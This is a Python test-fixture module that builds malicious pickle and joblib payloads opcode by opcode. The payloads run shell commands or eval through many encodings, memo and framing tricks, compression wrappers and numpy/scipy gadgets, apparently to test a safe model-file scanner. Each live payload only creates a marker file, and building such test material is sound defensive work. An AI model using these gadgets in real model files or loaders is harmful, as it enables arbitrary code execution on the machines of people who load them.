"""Hostile artifacts, made opcode by opcode. Those marked live write their marker file when they are really loaded.

Each payload leaves an empty file and does nothing else.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np

STOP = b"."
MARK = b"("


@dataclass(frozen=True)
class Payload:
    data: bytes
    live: bool = True


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def name(module: str, qualname: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(qualname) + b"\x93"


def line_name(module: str, qualname: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{qualname}\n".encode()


def call(function: bytes, *args: bytes) -> bytes:
    """REDUCE."""
    return function + MARK + b"".join(args) + b"tR"


def pairs(**items: bytes) -> bytes:
    """A dict with string keys."""
    return b"}" + MARK + b"".join(text(key) + value for key, value in items.items()) + b"u"


def number(value: int) -> bytes:
    """LONG1."""
    return pickle.dumps(value, 2)[2:-1]


def proto(version: int, *parts: bytes) -> bytes:
    """A whole pickle."""
    return b"\x80" + bytes([version]) + b"".join(parts) + STOP


class Evil:
    """Pickles as a call of eval."""

    def __init__(self, expression: str) -> None:
        self.expression = expression

    def __reduce__(self) -> Any:
        return eval, (self.expression,)


def _joblib(value: Any, **options: Any) -> bytes:
    stream = io.BytesIO()
    joblib.dump(value, stream, **options)
    return stream.getvalue()


class Workshop:
    """Makes the payloads that leave `marker`."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker
        self.command = text(f"touch {marker}")
        self.expression = f"open({str(marker)!r}, 'w').close()"
        self.evil = Evil(self.expression)
        self.source = text(self.expression)
        self.path = text(str(marker))

    def all(self) -> dict[str, Payload]:
        """Return every payload by name."""
        groups = (self.calls, self.files, self.spellings, self.memo, self.framing, self.in_joblib, self.states)
        return {key: value for group in groups for key, value in group()}

    def calls(self) -> Iterator[tuple[str, Payload]]:
        """Functions that run code."""
        command, source = self.command, self.source
        system = name("os", "system")
        yield "os.system", Payload(proto(4, call(system, command)))
        yield "posix.system", Payload(proto(4, call(name("posix", "system"), command)))
        shell = text("sh"), text("-c"), command
        words = b"]" + MARK + b"".join(shell) + b"e"
        yield "subprocess.Popen", Payload(proto(4, call(name("subprocess", "Popen"), words)))
        yield "subprocess.check_output", Payload(proto(4, call(name("subprocess", "check_output"), words)))
        yield "os.spawnvp", Payload(proto(4, call(name("os", "spawnvp"), b"K\x00", text("sh"), words)))
        yield "pty.spawn", Payload(proto(4, call(name("pty", "spawn"), words)), live=False)
        yield "eval", Payload(proto(4, call(name("builtins", "eval"), source)))
        yield "exec", Payload(proto(4, call(name("builtins", "exec"), source)))
        yield "timeit.timeit", Payload(proto(4, call(name("timeit", "timeit"), source, text("pass"))))
        yield "cProfile.run", Payload(proto(4, call(name("cProfile", "run"), source)))
        yield "pdb.run", Payload(proto(4, call(name("pdb", "run"), source)), live=False)
        yield "runpy._run_code", Payload(proto(4, call(name("runpy", "_run_code"), call(
            name("builtins", "compile"), source, text("x"), text("exec")), b"}")))  # fmt: skip
        interpreter = call(name("code", "InteractiveInterpreter"))
        yield (
            "code.InteractiveInterpreter",
            Payload(proto(4, call(call(name("builtins", "getattr"), interpreter, text("runsource")), source))),
        )
        imported = call(name("builtins", "__import__"), text("os"))
        yield (
            "__import__",
            Payload(proto(4, call(call(name("builtins", "getattr"), imported, text("system")), command))),
        )
        yield (
            "operator.methodcaller",
            Payload(proto(4, call(call(name("operator", "methodcaller"), text("system"), command), imported))),
        )
        yield (
            "operator.attrgetter",
            Payload(proto(4, call(call(call(name("operator", "attrgetter"), text("system")), imported), command))),
        )
        yield (
            "importlib.import_module",
            Payload(proto(4, call(name("importlib", "import_module"), text("antigravity_of_tests"))), live=False),
        )
        yield "functools.partial", Payload(proto(4, call(call(name("functools", "partial"), system, command))))
        listed = call(name("builtins", "list"), call(name("builtins", "map"), system, b"]" + command + b"a"))
        yield "map", Payload(proto(4, listed))
        inner = pickle.dumps(self.evil, 4)
        yield "pickle.loads", Payload(proto(4, call(name("pickle", "loads"), b"C" + bytes([len(inner)]) + inner)))
        yield (
            "defaultdict",
            Payload(proto(4, call(name("collections", "defaultdict"), name("os", "getpid"))), live=False),
        )
        yield "types.FunctionType", Payload(proto(4, name("types", "FunctionType")), live=False)
        yield "ctypes.CDLL", Payload(proto(4, call(name("ctypes", "CDLL"), b"N")), live=False)
        yield "socket.socket", Payload(proto(4, call(name("socket", "socket"))), live=False)
        yield (
            "numpy's runstring",
            Payload(proto(4, call(name("numpy.testing._private.utils", "runstring"), source, b"}"))),
        )

    def files(self) -> Iterator[tuple[str, Payload]]:
        """Functions that open files, in libraries that honest models use."""
        path = self.path
        other = self.marker.with_name(self.marker.name + ".second")
        other.write_bytes(pickle.dumps(self.evil))
        second = text(str(other))
        zero = b"]K\x00a"
        yield "open", Payload(proto(4, call(name("builtins", "open"), path, text("w"))))
        yield "io.FileIO", Payload(proto(4, call(name("_io", "FileIO"), path, text("w"))))
        yield "codecs.open", Payload(proto(4, call(name("codecs", "open"), path, text("w"))))
        yield "logging.FileHandler", Payload(proto(4, call(name("logging", "FileHandler"), path)))
        yield "zipfile.ZipFile", Payload(proto(4, call(name("zipfile", "ZipFile"), path, text("w"))))
        yield "sqlite3.connect", Payload(proto(4, call(name("sqlite3", "connect"), path)))
        yield "shutil.copy", Payload(proto(4, call(name("shutil", "copy"), second, path)))
        yield "os.mkdir", Payload(proto(4, call(name("os", "mkdir"), path)))
        yield "numpy.savetxt", Payload(proto(4, call(name("numpy", "savetxt"), path, zero)))
        yield (
            "numpy.memmap",
            Payload(proto(4, call(name("numpy", "memmap"), path, text("u1"), text("w+"), b"K\x00", b"K\x01\x85"))),
        )
        yield "numpy.load", Payload(proto(4, call(name("numpy", "load"), second, b"N", b"\x88")))
        yield "numpy.fromfile", Payload(proto(4, call(name("numpy", "fromfile"), second)), live=False)
        yield "numpy.loadtxt", Payload(proto(4, call(name("numpy", "loadtxt"), second)), live=False)
        yield "joblib.load", Payload(proto(4, call(name("joblib.numpy_pickle", "load"), second)))
        yield "joblib.dump", Payload(proto(4, call(name("joblib.numpy_pickle", "dump"), b"N", path)))
        yield "joblib.Memory", Payload(proto(4, call(name("joblib.memory", "Memory"), path)))
        yield "pandas.read_pickle", Payload(proto(4, call(name("pandas.io.pickle", "read_pickle"), second)))
        yield "pandas.to_pickle", Payload(proto(4, call(name("pandas.io.pickle", "to_pickle"), b"N", path)))
        yield "scipy.io.savemat", Payload(proto(4, call(name("scipy.io", "savemat"), path, b"}")))
        yield (
            "sklearn.datasets",
            Payload(
                proto(
                    4,
                    call(
                        name("sklearn.datasets._svmlight_format_io", "dump_svmlight_file"),
                        b"]" + zero + b"a",
                        zero,
                        path,
                    ),
                )
            ),
        )
        yield "sklearn.utils.murmurhash", Payload(proto(4, name("sklearn.utils", "murmurhash3_32")), live=False)
        yield (
            "Booster from a file",
            Payload(proto(4, call(name("lightgbm.basic", "Booster"), b"N", b"N", second)), live=False),
        )
        yield (
            "Booster from a text",
            Payload(proto(4, call(name("lightgbm.basic", "Booster"), b"N", b"N", b"N", text("tree"))), live=False),
        )
        yield (
            "estimator called",
            Payload(proto(4, call(name("sklearn.linear_model._base", "LinearRegression"))), live=False),
        )

    def spellings(self) -> Iterator[tuple[str, Payload]]:
        """Ways of writing a name."""
        command, source = self.command, self.source
        line = self.command[2:].decode()
        yield "protocol 0", Payload(b"cos\nsystem\n(V" + line.encode() + b"\ntR.")
        yield "protocol 1", Payload(b"cos\nsystem\n(X" + struct.pack("<I", len(line)) + line.encode() + b"tR.")
        yield "protocol 2, Python 2 names", Payload(proto(2, call(line_name("__builtin__", "eval"), source)))
        yield "protocol 2, commands", Payload(proto(2, call(line_name("commands", "getoutput"), command)))
        yield "protocol 3", Payload(proto(3, call(line_name("os", "system"), command)))
        yield "protocol 5", Payload(proto(5, call(name("os", "system"), command)))
        yield "INST", Payload(b"(V" + line.encode() + b"\nios\nsystem\n.")
        yield "OBJ", Payload(b"\x80\x02(" + line_name("os", "system") + command + b"o.")
        yield "OBJ of a class", Payload(proto(2, MARK + line_name("subprocess", "Popen") + command + b"o"), live=False)
        yield (
            "dotted runstring",
            Payload(proto(4, call(name("numpy", "testing._private.utils.runstring"), source, b"}"))),
        )
        yield "dotted os.system", Payload(proto(4, call(name("joblib.numpy_pickle", "os.system"), command)))
        yield "dotted pickle.loads", Payload(
            proto(4, call(name("joblib.numpy_pickle", "pickle.loads"), b"C\x02N."))
        , live=False)  # fmt: skip
        yield (
            "dotted through a class",
            Payload(proto(4, call(name("sklearn.base", "BaseEstimator.__init__.__globals__"), b"N")), live=False),
        )
        yield "dotted estimator", Payload(proto(4, name("sklearn", "linear_model._base.LinearRegression")), live=False)
        yield "protocol 3, dotted", Payload(proto(3, line_name("numpy", "testing.runstring")), live=False)
        yield "second PROTO", Payload(b"\x80\x04N0\x80\x02" + call(line_name("__builtin__", "eval"), source) + STOP)
        yield "extension registry", Payload(b"\x80\x02\x82\x01)R.", live=False)
        yield "extension 2", Payload(b"\x80\x02\x83\x01\x00)R.", live=False)
        yield "extension 4", Payload(b"\x80\x02\x84\x01\x00\x00\x00)R.", live=False)
        yield "persistent id, text", Payload(b"Psome id\n.", live=False)
        yield "persistent id, binary", Payload(proto(2, text("x"), b"Q"), live=False)
        yield "out-of-band buffer", Payload(proto(5, b"\x97"), live=False)
        yield "carriage return in a name", Payload(b"\x80\x02cos\r\nsystem\n.", live=False)
        yield "space in a name", Payload(b"\x80\x02c os\nsystem\n.", live=False)
        yield (
            "name out of a call",
            Payload(
                proto(4, call(name("builtins", "str"), text("os")), text("system"), b"\x93", MARK + command + b"tR")
            ),
        )
        yield "name out of bytes", Payload(proto(4, b"C\x02os", text("system"), b"\x93"), live=False)
        yield "empty name", Payload(proto(4, text("os"), text(""), b"\x93"), live=False)
        yield "escapes in a name", Payload(proto(4, name("my\x1b[31mpkg\x07", "Thing\n\n")), live=False)
        yield "very long name", Payload(proto(4, name("m" * 50_000, "n" * 50_000)), live=False)
        yield (
            "a thousand names",
            Payload(proto(4, *(name("pkg", f"f{i}") + b"0" for i in range(1000)), b"N"), live=False),
        )
        yield "Python 2 string", Payload(b"cos\nsystem\n(S'" + line.encode() + b"'\ntR.")
        yield (
            "new-style call",
            Payload(proto(4, name("subprocess", "Popen"), b")", pairs(args=command), b"\x92"), live=False),
        )

    def memo(self) -> Iterator[tuple[str, Payload]]:
        """Names that pass through the memo and the stack."""
        command = self.command
        run = MARK + command + b"tR"
        yield "memo", Payload(proto(4, text("os") + b"\x94" + text("system") + b"\x94", b"00", b"h\x00h\x01\x93", run))
        yield (
            "memo overwritten",
            Payload(proto(4, text("numpy"), b"q\x000", text("os"), b"q\x000", b"h\x00", text("system"), b"\x93", run)),
        )
        yield (
            "memo overwritten by length",
            Payload(proto(4, text("numpy"), b"q\x010", text("os"), b"\x940", b"h\x01", text("system"), b"\x93", run)),
        )
        yield (
            "memo by text",
            Payload(proto(4, text("numpy"), b"p7\n0", text("os"), b"q\x070", b"g7\n", text("system"), b"\x93", run)),
        )
        yield "LONG_BINGET", Payload(
            proto(4, text("numpy"), b"q\x010", text("os"), b"r\x01\x01\x00\x000", b"j\x01\x01\x00\x00", text("system"),
                  b"\x93", run))  # fmt: skip
        yield (
            "function in the memo",
            Payload(proto(4, name("os", "system"), b"q\x00", b"0", name("numpy", "exp"), b"0", b"h\x00", run)),
        )
        yield "duplicate", Payload(proto(4, name("os", "system"), b"2", run))
        yield "pop", Payload(proto(4, text("os"), text("numpy"), b"0", text("system"), b"\x93", run))
        yield (
            "pop a mark",
            Payload(proto(4, text("os"), MARK, text("numpy"), text("exp"), b"1", text("system"), b"\x93", run)),
        )
        yield "missing memo entry", Payload(proto(4, b"h\x05"), live=False)
        yield "huge memo place", Payload(proto(4, text("x"), b"r\xff\xff\xff\xff"), live=False)
        yield "negative memo place", Payload(b"Vx\np-1\n.", live=False)
        yield "underflow", Payload(proto(4, b"0" * 5), live=False)
        yield "no mark", Payload(proto(4, b"Nt"), live=False)
        yield "odd dict", Payload(proto(4, b"(NNNd"), live=False)
        yield "two results", Payload(proto(4, b"NN"), live=False)
        yield "left-over mark", Payload(proto(4, b"(N"), live=False)
        yield "giant integer", Payload(proto(4, b"\x8b" + struct.pack("<i", 1 << 20) + b"\x01" * (1 << 20)), live=False)
        yield "hexadecimal integer", Payload(b"I0x10\n.", live=False)

    def framing(self) -> Iterator[tuple[str, Payload]]:
        """Where a pickle begins and ends."""
        body = call(name("os", "system"), self.command) + STOP
        honest = pickle.dumps({"model": 1})
        frame = struct.pack("<Q", len(body))
        yield "framed", Payload(b"\x80\x04\x95" + frame + body)
        yield "frame too long", Payload(b"\x80\x04\x95" + struct.pack("<Q", len(body) + 9) + body)
        yield "frame too short", Payload(b"\x80\x04\x95" + struct.pack("<Q", 5) + body, live=False)
        yield "frame of half the memory", Payload(b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + body, live=False)
        yield (
            "frame in a frame",
            Payload(
                b"\x80\x04\x95" + struct.pack("<Q", 100) + b"\x95" + struct.pack("<Q", 1) + b"N" * 91 + STOP, live=False
            ),
        )
        yield "second pickle", Payload(honest + proto(4, call(name("os", "system"), self.command)), live=False)
        yield "zeros at the end", Payload(honest + bytes(8), live=False)
        yield "text at the end", Payload(honest + b"\n", live=False)
        yield "unknown protocol", Payload(b"\x80\x09" + body, live=False)
        yield "unknown opcode", Payload(proto(4, b"\xff"), live=False)
        evil = pickle.dumps(self.evil)
        packers = {"zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}
        for kind, pack in packers.items():
            yield f"in {kind}", Payload(pack(evil))
        alone = lzma.compress(evil, format=lzma.FORMAT_ALONE)
        yield "in lzma", Payload(alone)
        yield "twice in gzip", Payload(gzip.compress(honest) + gzip.compress(evil), live=False)
        yield "twice in xz", Payload(lzma.compress(honest) + lzma.compress(evil), live=False)
        yield "bytes after gzip", Payload(gzip.compress(honest) + b"x", live=False)
        yield "half a gzip", Payload(gzip.compress(honest)[:-9], live=False)
        yield "wrong gzip checksum", Payload(gzip.compress(honest)[:-8] + bytes(8), live=False)

    def in_joblib(self) -> Iterator[tuple[str, Payload]]:
        """Among joblib's raw arrays."""
        evil = self.evil
        yield "joblib", Payload(_joblib(evil))
        yield "joblib, before an array", Payload(_joblib([evil, np.arange(9)]))
        yield "joblib, after an array", Payload(_joblib([np.arange(9), evil]))
        yield "joblib, in an object array", Payload(_joblib(np.array([evil, None], dtype=object)))
        yield "joblib, deep", Payload(_joblib({"a": [np.array([[np.array([evil, 1], dtype=object)]], dtype=object)]}))
        for kind in ("zlib", "gzip", "bz2", "lzma", "xz"):
            value = [np.arange(9.0), np.array([evil], dtype=object)]
            path = self.marker.with_name(f"{self.marker.name}.{kind}")
            joblib.dump(value, path, compress=(kind, 3))
            yield f"joblib, in {kind}", Payload(path.read_bytes())
        for protocol in (2, 3, 5):
            yield f"joblib, protocol {protocol}", Payload(_joblib([np.arange(3), evil], protocol=protocol))
        attack = call(name("os", "system"), self.command)
        wraps = b"\x8a\x05\x00\x00\x00\x00\x01"
        wrapped = self.wrapper(shape=wraps + wraps + b"\x86", dtype=self.dtype("u1"))
        yield "joblib, shape that wraps round", Payload(proto(4, wrapped)[:-1] + b"\x010" + attack + STOP, live=False)
        leftover = b"\x95" + struct.pack("<Q", len(wrapped + attack) + 1) + wrapped + attack + STOP
        yield "joblib, code in the array's frame", Payload(b"\x80\x04" + leftover + b"\x01x\x05" + bytes(9), live=False)
        yield "joblib, negative length", Payload(proto(4, self.wrapper(shape=b"J\xff\xff\xff\xff\x85")), live=False)
        yield "joblib, huge length", Payload(proto(4, self.wrapper(shape=number(1 << 61) + b"\x85")), live=False)
        yield "joblib, absurd length", Payload(proto(4, self.wrapper(shape=number(1 << 900) + b"\x85")), live=False)
        yield "joblib, empty elements", Payload(proto(4, self.wrapper(dtype=self.dtype("S0"))), live=False)
        yield "joblib, subclass", Payload(proto(4, self.wrapper(subclass=name("os", "system"))), live=False)
        yield (
            "joblib, estimator as subclass",
            Payload(proto(4, self.wrapper(subclass=name("sklearn.pipeline", "Pipeline"))), live=False),
        )
        yield (
            "joblib, dtype out of a call",
            Payload(proto(4, self.wrapper(dtype=call(name("os", "system"), self.command)))),
        )
        yield "joblib, no dtype", Payload(proto(4, self.wrapper(dtype=b"N")), live=False)
        yield (
            "joblib, wrapper called",
            Payload(proto(4, call(name("joblib.numpy_pickle", "NumpyArrayWrapper"), *[b"N"] * 4)), live=False),
        )
        yield (
            "joblib, wrapper in an object array",
            Payload(
                proto(4, self.wrapper(dtype=self.dtype("O8")))[:-1] + proto(4, self.wrapper()) + bytes(32) + STOP,
                live=False,
            ),
        )
        old = pairs(filename=text("../x.npy"), subclass=name("numpy", "ndarray"))
        for kind in ("NDArrayWrapper", "ZNDArrayWrapper"):
            yield (
                f"joblib, {kind}",
                Payload(proto(4, name("joblib.numpy_pickle", kind), b")\x81", old, b"b"), live=False),
            )
        yield (
            "joblib, file before 0.10",
            Payload(b"ZF" + hex(len(pickle.dumps(evil))).ljust(19).encode() + zlib.compress(pickle.dumps(evil))),
        )

    def dtype(self, kind: str) -> bytes:
        """Return a dtype, made as numpy does but without its state."""
        return call(name("numpy", "dtype"), text(kind), b"\x89", b"\x88")

    def wrapper(self, **fields: bytes) -> bytes:
        """Return joblib's wrapper around an array of three bytes, or with other fields."""
        usual = {
            "subclass": name("numpy", "ndarray"), "shape": b"K\x03\x85", "order": text("C"),
            "dtype": self.dtype("u1"), "allow_mmap": b"\x89", "numpy_array_alignment_bytes": b"K\x10",
        }  # fmt: skip
        state = pairs(**{**usual, **fields})
        return name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"

    def states(self) -> Iterator[tuple[str, Payload]]:
        """States that honest names must not be given, and uses that they must not be put to."""
        pipeline = name("sklearn.pipeline", "Pipeline")
        made = pipeline + b")\x81"
        distribution = name("scipy.stats._continuous_distns", "norm_gen") + b")\x81"
        template = pairs(_parse_arg_template=self.source, numargs=b"K\x00", moment_type=b"K\x01")
        yield "scipy's parser template", Payload(proto(4, distribution, template, b"b"))
        from scipy import stats

        own = stats.norm.__getstate__()["_parse_arg_template"]
        hidden = own.replace("loc=0", f"loc=[0, {self.expression}]", 1)
        state = pairs(_parse_arg_template=text(hidden), numargs=b"K\x00", moment_type=b"K\x01")
        yield "scipy's parser template, edited", Payload(proto(4, distribution, state, b"b"))
        yield "scipy's distribution without a state", Payload(proto(4, distribution, b"}b"), live=False)
        gadget = pairs(__setstate__=name("numpy", "exp"))
        yield "replaced __setstate__", Payload(proto(4, made, gadget, b"b"), live=False)
        yield "replaced __class__", Payload(proto(4, made, pairs(__class__=pipeline), b"b"), live=False)
        yield "replaced __reduce__", Payload(proto(4, made, pairs(__reduce__=name("numpy", "exp")), b"b"), live=False)
        yield "state set twice", Payload(proto(4, made, pairs(steps=b"]"), b"b", b"}", b"b"), live=False)
        yield "state of a class", Payload(proto(4, pipeline, b"N", pairs(predict=b"N"), b"\x86b"), live=False)
        yield "slots state", Payload(proto(4, made, b"N", pairs(predict=b"N"), b"\x86b"), live=False)
        yield "state of a function", Payload(proto(4, name("numpy", "exp"), pairs(x=b"N"), b"b"), live=False)
        yield "state of a list", Payload(proto(4, b"]", pairs(x=b"N"), b"b"), live=False)
        yield "items into an estimator", Payload(proto(4, made, b"Na"), live=False)
        yield "keys into an estimator", Payload(proto(4, made, text("a"), b"Ns"), live=False)
        yield (
            "getattr of an estimator",
            Payload(proto(4, call(name("builtins", "getattr"), made, text("fit"))), live=False),
        )
        yield "getattr chain", Payload(
            proto(4, call(name("builtins", "getattr"), call(name("builtins", "getattr"), name("builtins", "str"),
                  text("lower")), text("__call__"))), live=False)  # fmt: skip
        yield "getattr kept", Payload(proto(4, made, pairs(func=name("builtins", "getattr")), b"b"), live=False)
        yield "getattr in a list", Payload(proto(4, b"]", name("builtins", "getattr"), b"a"), live=False)
        yield (
            "getattr in a tuple in a list",
            Payload(proto(4, b"](", name("builtins", "getattr"), b"\x85", b"e"), live=False),
        )
        yield "getattr as the result", Payload(proto(4, name("builtins", "getattr")), live=False)
        yield "call of a ufunc", Payload(proto(4, call(name("numpy", "exp"), b"K\x01")), live=False)
        yield (
            "call of a metric",
            Payload(proto(4, call(name("sklearn.metrics._classification", "accuracy_score"), b"]", b"]")), live=False),
        )
        yield (
            "call of a result",
            Payload(proto(4, call(call(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88"))), live=False),
        )
        yield "memmap as an attribute", Payload(proto(4, made, pairs(func=name("numpy", "memmap")), b"b"), live=False)
        yield (
            "partial of another function",
            Payload(proto(4, call(name("functools", "partial"), name("numpy", "exp"))), live=False),
        )
        partial = call(name("functools", "partial"), name("sklearn.utils.validation", "check_array"))
        changed = MARK + name("numpy", "exp") + b")}N" + b"t"
        yield "partial with another state", Payload(proto(4, partial, changed, b"b"), live=False)
        yield (
            "generator by a function",
            Payload(
                proto(4, call(name("numpy.random._pickle", "__generator_ctor"), self.source, name("builtins", "eval"))),
            ),
        )
        yield (
            "bit generator of a class",
            Payload(proto(4, call(name("numpy.random._pickle", "__bit_generator_ctor"), pipeline)), live=False),
        )
        yield (
            "newObj of an estimator",
            Payload(proto(4, call(name("sklearn.neighbors._kd_tree", "newObj"), pipeline)), live=False),
        )
        yield "reconstructor with an init", Payload(
            proto(2, call(line_name("copyreg", "_reconstructor"), line_name("numpy", "ndarray"), line_name("builtins",
                  "dict"), b"}")), live=False)  # fmt: skip
        yield (
            "codec",
            Payload(proto(2, call(line_name("_codecs", "encode"), text("x"), text("zlib_codec"))), live=False),
        )
        yield "bytearray of a size", Payload(proto(4, call(name("builtins", "bytearray"), number(1 << 40))), live=False)
        yield "array of a size", Payload(
            proto(4, call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"),
                  number(1 << 40) + b"\x85", b"C\x01b")), live=False)  # fmt: skip
        yield "dtype out of a list", Payload(proto(4, call(name("numpy", "dtype"), b"]")), live=False)
        yield (
            "dtype of a comma list",
            Payload(proto(4, call(name("numpy", "dtype"), text("i8,O"), b"\x89", b"\x88")), live=False),
        )
        for kind, size, flags in (("O8", -1, 0), ("f8", -1, 63), ("f8", 4, 0), ("V8", 9, 0), ("V8", 8, 1)):
            state = MARK + b"K\x03" + text("|") + b"NNN" + number(size) + number(-1) + number(flags) + b"t"
            yield f"forged dtype {kind} {size} {flags}", Payload(proto(4, self.dtype(kind), state, b"b"), live=False)
        inside = pairs(a=self.dtype("O8") + b"K\x00\x86")
        state = (
            MARK
            + b"K\x03"
            + text("|")
            + b"N"
            + text("a")
            + b"\x85"
            + inside
            + number(8)
            + number(1)
            + number(16)
            + b"t"
        )
        yield "forged dtype with objects inside", Payload(proto(4, self.dtype("V8"), state, b"b"), live=False)
        unit = b"N(C\x02ns" + number(1) + number(0) + number(1) + b"t\x86"
        for version, more in ((3, b""), (4, b"N"), (4, b"N)\x86"), (4, unit)):
            state = MARK + number(version) + text("<") + b"NNN" + number(-1) * 2 + number(0) + more + b"t"
            yield f"times without a unit {len(more)}", Payload(proto(4, self.dtype("m8"), state, b"b"), live=False)
        kind, text_of = (
            call(name("pyarrow.lib", "type_for_alias"), text("large_string")),
            name("pyarrow.lib", "py_buffer"),
        )
        buffer = call(text_of, b"C\x10" + bytes(16))
        for wrong in (b"]", b"](NN" + buffer + b"e", b"](N" + buffer + b"Ne", b"](N" + buffer * 2 + b"e"):
            parts = MARK + kind + b"K\x05K\x00K\x00" + wrong + b"]Nt"
            yield (
                f"pyarrow array {wrong.count(buffer)} {len(wrong)}",
                Payload(proto(4, call(name("pyarrow.lib", "_restore_array"), parts)), live=False),
            )
        tree = call(name("sklearn.neighbors._kd_tree", "newObj"), name("sklearn.neighbors._kd_tree", "KDTree"))
        metrics = "sklearn.metrics._dist_metrics"
        metric = call(name(metrics, "newObj"), name(metrics, "EuclideanDistance64"))
        yield "short state of a KDTree", Payload(proto(4, tree, MARK + b"N" * 12 + b"t", b"b"), live=False)
        yield "empty state of a KDTree", Payload(proto(4, tree, MARK + b"N" * 13 + b"t", b"b"), live=False)
        yield "short state of a metric", Payload(proto(4, metric, b"K\x00\x85", b"b"), live=False)
        yield "objects out of bytes", Payload(proto(4, self.array("O8", b"C\x08" + bytes(8))), live=False)
        yield "too few bytes", Payload(proto(4, self.array("f8", b"C\x04" + bytes(4))), live=False)
        for kind, content in (("O8", b"]"), ("O8", b"]NaNa"), ("O0", b"]"), ("f8", b"]Na")):
            size = content.count(b"a")
            yield f"array of {kind} out of {size} items", Payload(proto(4, self.array(kind, content)), live=False)
        yield (
            "scalar of objects",
            Payload(
                proto(4, call(name("numpy._core.multiarray", "scalar"), self.dtype("O8"), b"C\x08" + bytes(8))),
                live=False,
            ),
        )
        booster = name("lightgbm.basic", "Booster") + b")\x81"
        for number_, broken in enumerate(("", "tree", "tree\nversion=v4\n", "Tree=0\n", "\x00")):
            yield (
                f"booster {number_}",
                Payload(proto(4, booster, pairs(_handle=text(broken), params=b"}"), b"b"), live=False),
            )
        yield "booster with bytes", Payload(proto(4, booster, pairs(handle=b"C\x01x"), b"b"), live=False)

    def array(self, kind: str, content: bytes) -> bytes:
        """Return a pickled array of one element."""
        empty = call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"K\x00\x85", b"C\x01b")
        return empty + MARK + b"K\x01" + b"K\x01\x85" + self.dtype(kind) + b"\x89" + content + b"tb"
